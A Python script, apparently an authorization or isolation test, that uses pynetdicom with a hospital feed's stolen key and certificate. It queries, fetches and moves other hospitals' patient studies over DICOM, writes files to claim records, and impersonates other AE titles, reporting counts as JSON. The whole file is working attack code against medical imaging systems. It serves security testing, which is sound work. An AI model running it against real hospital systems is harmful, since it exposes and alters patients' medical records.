"""What whoever has a hospital feed's key and certificate can do: pynetdicom through a relay that speaks TLS with both, and one
line of JSON that says what came of it.

Usage: stolen_feed.py HOST:PORT PLAN
PLAN is a file of JSON: the feed's AE title, titles of others, what others have, and files to store.
"""
import json
import sys
import time
from pathlib import Path

from pydicom import dcmread
from pydicom.dataset import Dataset
from pydicom.uid import ExplicitVRLittleEndian, generate_uid
from pynetdicom import AE, build_role, evt
from pynetdicom.sop_class import (
    ModalityWorklistInformationFind as Worklist,
    PatientRootQueryRetrieveInformationModelFind as PatientFind,
    SecondaryCaptureImageStorage as Capture,
    StorageCommitmentPushModel as Commitment,
    StudyRootQueryRetrieveInformationModelFind as Find,
    StudyRootQueryRetrieveInformationModelGet as Get,
    StudyRootQueryRetrieveInformationModelMove as Move,
)

host, port = sys.argv[1].split(":")
plan = json.loads(Path(sys.argv[2]).read_text())
others = plan["others"]  # of each: study, instance, number, name
# Names: the numbers it knows, and writes itself.
marks = [other["name"] for other in others]
told, got, reports = {}, [], []


def keep(event):
    got.append(event.dataset)
    return 0x0000


def report(event):
    reports.append((event.event_type, event.event_information))
    return 0x0000, None


def associate(title=plan["title"]):
    ae = AE(ae_title=title)
    ae.acse_timeout = ae.dimse_timeout = ae.network_timeout = 30
    for service in (Worklist, PatientFind, Find, Get, Move, Commitment):
        ae.add_requested_context(service)
    ae.add_requested_context(Capture, ExplicitVRLittleEndian)
    handlers = [(evt.EVT_C_STORE, keep), (evt.EVT_N_EVENT_REPORT, report)]
    return ae.associate(
        host, int(port), ae_title="SEGEL", evt_handlers=handlers,
        ext_neg=[build_role(Capture, scu_role=True, scp_role=True)],
    )


def query(**keys):
    asked = Dataset()
    for keyword, value in keys.items():
        setattr(asked, keyword, value)
    return asked


def is_others(dataset):
    """Whether anything that only another hospital has stands in it."""
    text = str(dataset)
    return any(mark in text for mark in marks)


def found(association, model, **keys):
    """How many answers speak of another hospital's patients."""
    answers = [identifier for _, identifier in association.send_c_find(query(**keys), model) if identifier is not None]
    return sum(is_others(answer) for answer in answers)


def fetched(association, study):
    before = len(got)
    list(association.send_c_get(query(QueryRetrieveLevel="STUDY", StudyInstanceUID=study), Get))
    return sum(is_others(one) for one in got[before:])


def moved(association, study, to):
    last = [status for status, _ in association.send_c_move(query(QueryRetrieveLevel="STUDY", StudyInstanceUID=study), to, Move)][-1]
    return int(getattr(last, "NumberOfCompletedSuboperations", 0) or 0)


feed = associate()
assert feed.is_established, "the feed's own certificate"
lists = dict(PatientName="", PatientID="", StudyInstanceUID="")
told["found all studies"] = found(feed, Find, QueryRetrieveLevel="STUDY", **lists)
told["found all patients"] = found(feed, PatientFind, QueryRetrieveLevel="PATIENT", PatientName="*", PatientID="")
told["found by number, name and UID"] = sum(
    found(feed, Find, QueryRetrieveLevel="STUDY", **(lists | key))
    for other in others
    for key in ({"PatientID": other["number"]}, {"PatientName": other["name"]}, {"StudyInstanceUID": other["study"]})
)
told["fetched by UID"] = sum(fetched(feed, other["study"]) for other in others)
told["moved to itself"] = sum(moved(feed, other["study"], plan["title"]) for other in others)
told["moved to another facility's peer"] = sum(moved(feed, other["study"], plan["other_title"]) for other in others)
told["worklist of others"] = found(feed, Worklist, PatientName="", PatientID="",
                                   ScheduledProcedureStepSequence=[query(ScheduledProcedureStepStartDate="")])
# Storage commitment: which instances are kept, of whom?
information = Dataset()
information.TransactionUID = generate_uid()
information.ReferencedSOPSequence = [
    query(ReferencedSOPClassUID=Capture, ReferencedSOPInstanceUID=other["instance"]) for other in others
]
feed.send_n_action(information, 1, Commitment, "1.2.840.10008.1.20.1.1")
for _ in range(100):
    if reports:
        break
    time.sleep(0.1)
assert reports, "no report of the commitment"
told["committed of others"] = sum(len(info.get("ReferencedSOPSequence", [])) for _, info in reports)
# Writing: each file of the plan, in order; what each was answered with.
told["stored"] = {}
for name, path in plan["files"].items():
    told["stored"][name] = feed.send_c_store(dcmread(path)).Status
# And again after whatever was claimed by writing.
told["found after claiming"] = found(feed, Find, QueryRetrieveLevel="STUDY", **lists)
told["fetched after claiming"] = sum(fetched(feed, other["study"]) for other in others)
told["moved after claiming"] = sum(moved(feed, other["study"], plan["title"]) for other in others)
feed.release()
# Being somebody else.
accepted = 0
for title in plan["titles"]:
    other = associate(title)
    accepted += other.is_established
    other.abort() if other.is_established else None
told["other AE titles"] = accepted
print(json.dumps(told))
